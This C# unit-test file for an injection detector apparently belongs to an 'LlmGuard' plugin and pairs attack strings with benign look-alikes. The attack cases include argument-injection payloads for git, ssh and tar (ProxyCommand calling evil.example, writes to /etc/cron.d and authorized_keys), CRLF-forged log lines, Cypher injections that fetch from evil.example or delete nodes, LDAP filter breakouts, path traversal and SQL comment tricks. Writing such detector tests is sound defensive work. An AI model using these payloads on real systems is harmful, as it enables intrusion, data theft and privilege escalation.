namespace LlmGuard.Plugins.InjectionProtection.Tests.Web;

/// <summary>
/// Injections that are known by where they stand and how they go on, beside ordinary values of the same words: options as values, forged lines of
/// logs, queries of graphs, filters that were resolved twice, steps up to a file, and comments of SQL.
/// </summary>
public sealed class WebStructureTests
{
    [TestCase("--upload-pack=touch /tmp/x", "command.option", TestName = "a program of git")]
    [TestCase("-oProxyCommand=id", "command.option", TestName = "a program of ssh")]
    [TestCase("-o ProxyCommand=curl evil.example", "command.option", TestName = "a program of ssh, apart")]
    [TestCase("'--checkpoint-action=exec=sh x.sh'", "command.option", TestName = "a program of tar, in quotes")]
    [TestCase("--use-compress-program id", "command.option", TestName = "a program behind a space")]
    [TestCase("-c core.sshCommand=id", "command.option", TestName = "a setting of git")]
    [TestCase("--config=alias.x=!id", "command.option", TestName = "an alias that is a command")]
    [TestCase("--config filter.x.smudge=id", "command.option", TestName = "a filter of git")]
    [TestCase("--output=/etc/cron.d/x", "command.option", TestName = "a file of the machine")]
    [TestCase("-O/root/.ssh/authorized_keys", "command.option", TestName = "a file of the machine, in one word")]
    [TestCase("--whatever=sh -c id", "command.option", TestName = "a command for any option")]
    [TestCase("ssh://-oProxyCommand=id/x", "command.option", TestName = "a machine that is an option")]
    [TestCase("bob\r\n2024-05-01 12:00:00 INFO login ok for admin", "header.log_line", TestName = "a line with a time")]
    [TestCase("bob\n[INFO] user admin logged in", "header.log_line", TestName = "a line with a level in brackets")]
    [TestCase("bob%0d%0a2024-05-01T12:00:00Z WARN login ok", "header.log_line", TestName = "a line behind escapes")]
    [TestCase("bob%0aINFO:%20user%20admin%20logged%20in", "header.log_line", TestName = "blanks in escapes")]
    [TestCase("x%0d%0a127.0.0.1 - - [01/May/2024:12:00:00 +0000] \"GET / HTTP/1.1\" 200 5", "header.log_line", TestName = "a line of a web server")]
    [TestCase("x' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label RETURN label //", "nosql.cypher", TestName = "a condition and a procedure")]
    [TestCase("x'}) RETURN n UNION MATCH (m) RETURN m //", "nosql.cypher", TestName = "a second query")]
    [TestCase("' LOAD CSV FROM 'http://evil.example/' AS l RETURN 0 //", "nosql.cypher", TestName = "a file that is fetched")]
    [TestCase("1 WITH 1337 AS x LOAD CSV WITH HEADERS FROM 'http://evil.example' AS y RETURN y", "nosql.cypher", TestName = "behind a number")]
    [TestCase("bob'}) DETACH DELETE n //", "nosql.cypher", TestName = "a node that is deleted")]
    [TestCase("' CALL dbms.components() YIELD name //", "nosql.cypher", TestName = "a procedure")]
    [TestCase("x' UNION ALL MATCH (n:User) RETURN n//", "nosql.cypher", TestName = "a query that is added")]
    [TestCase("'}) SET n.role='admin' //", "nosql.cypher", TestName = "a property that is set")]
    [TestCase("x\"}) MERGE (a:Admin {name: 'eve'}) //", "nosql.cypher", TestName = "a node that is made")]
    [TestCase("admin\\29\\28uid=\\2a", "ldap.filter", TestName = "a filter that was escaped")]
    [TestCase("x\\29\\28|\\28cn=\\2a", "ldap.filter", TestName = "an alternative that was escaped")]
    [TestCase("../../../secret.txt", "path.traversal", TestName = "three steps to a file")]
    [TestCase("download?f=../../../app/config/database.yml", "path.traversal", TestName = "three steps to a file, of a parameter")]
    [TestCase("1 /*!99999 x*/ union select 1,2", "sql.union", TestName = "behind a version that no server has")]
    [TestCase("1/*!1or 1=1*/", "sql.tautology", TestName = "in a comment that is run, with a number")]
    [TestCase("' or /* /* */ ' */ 1=1 --", "sql.breakout", TestName = "behind a comment in a comment")]
    public void Find_Attack_HasTheRule(string text, string rule) =>
        Assert.That(Injection.Rules(Injection.Judge(Injection.Web, text)), Does.Contain(rule));

    [TestCase("--save-dev", TestName = "an option without a value")]
    [TestCase("--output=dist/app.js", TestName = "a file of one's own")]
    [TestCase("--log-file=/var/tmp/build.txt", TestName = "a file of the machine that starts nothing")]
    [TestCase("--config=webpack.config.js", TestName = "a file of settings")]
    [TestCase("-o out.txt", TestName = "a short option")]
    [TestCase("-c 3", TestName = "a short option with a number")]
    [TestCase("--shell=bash", TestName = "a shell and nothing for it")]
    [TestCase("-5 to 7 degrees", TestName = "a number below zero")]
    [TestCase("- buy milk", TestName = "an item of a list")]
    [TestCase("-- Jim", TestName = "a signature")]
    [TestCase("--exec", TestName = "the name of an option")]
    [TestCase("Use --upload-pack=<path> to name the program on the other side", TestName = "an option in a sentence")]
    [TestCase("https://example.com/-o/x=1", TestName = "a dash in a path")]
    [TestCase("Here is my log:\n2024-05-01 12:00:00 INFO started", TestName = "a log behind its label")]
    [TestCase("the server stopped tonight\n2024-05-01 12:00:00 ERROR out of memory", TestName = "a log behind a sentence")]
    [TestCase("2024-05-01 11:59:58 INFO a\n2024-05-01 12:00:00 INFO b", TestName = "two lines of a log")]
    [TestCase("[INFO] a\n[INFO] b", TestName = "two lines of a log, by levels")]
    [TestCase("Ann Lee\n2024-05-01", TestName = "a name and a date")]
    [TestCase("Meeting\n12:00:00 lunch", TestName = "a time and what is on")]
    [TestCase("note\nerror: no such file", TestName = "a message of a program")]
    [TestCase("a%0A2024-05-01%20planned", TestName = "a date behind an escape")]
    [TestCase("MATCH (n {name: 'Bob'}) RETURN n", TestName = "a query of one's own")]
    [TestCase("LOAD CSV FROM 'file:///a.csv' AS row RETURN row", TestName = "a file of one's own")]
    [TestCase("session.run(\"MATCH (n {name: 'Bob'}) RETURN n\")", TestName = "a query in a program")]
    [TestCase("{\"query\": \"MATCH (n {name: $name}) DETACH DELETE n\"}", TestName = "a query in an object")]
    [TestCase("it's time to set the table with the best china", TestName = "a sentence with clauses")]
    [TestCase("O'Brien will call Ann.Smith (twice)", TestName = "a name before a clause")]
    [TestCase("'quoted' match (a) and match (b)", TestName = "a quotation before a match")]
    [TestCase("if (x == 'a') return y // done", TestName = "a line of a program")]
    [TestCase("5 create (or join) groups", TestName = "a number before a verb")]
    [TestCase("Smith \\28Jr.\\29", TestName = "parentheses that were escaped")]
    [TestCase("C:\\28\\29\\x", TestName = "folders with numbers")]
    [TestCase("src/../lib/index.js", TestName = "a path that is not normalised")]
    [TestCase("/a/b/../c.txt", TestName = "a path that stays in its first folder")]
    [TestCase("/articles/../customers/81.html", TestName = "from the root to the root")]
    [TestCase("../../../node_modules/.bin/tool", TestName = "three steps to a name without an extension")]
    [TestCase("../../secret.txt", TestName = "two steps to a file")]
    [TestCase("<img src=\"../../../pics/a.bmp\">", TestName = "three steps in a page")]
    [TestCase("../../../src/main.rs", TestName = "three steps to a source")]
    public void Find_OrdinaryValue_IsNone(string text) => Assert.That(Injection.Judge(Injection.Web, text).Findings, Is.Empty);

    [TestCase("postgresql", "1 /* /* */ or 1=1 -- */", false)]
    [TestCase("sqlserver", "1 /* /* */ or 1=1 -- */", false)]
    [TestCase("mysql", "1 /* /* */ or 1=1 -- */", true)]
    [TestCase("oracle", "1 /* /* */ or 1=1 -- */", true)]
    [TestCase("sqlite", "1 /* /* */ or 1=1 -- */", true)]
    [TestCase("mysql", "1 /*!99999 a b c*/ or 1=1 -- ", true)]
    [TestCase("mysql", "1 /*!50000 or*/ 1=1 -- ", true)]
    [TestCase("postgresql", "1 /*!50000 or*/ 1=1", false)]
    public void Find_CommentsOfADialect_AreReadAsItReadsThem(string dialect, string text, bool isFound)
    {
        var settings = $$"""{"predefined_injections": [{"type": "sql"}], "sql_dialects": ["{{dialect}}"]}""";
        Assert.That(Injection.Judge(settings, text).Findings, isFound ? Is.Not.Empty : Is.Empty);
    }
}
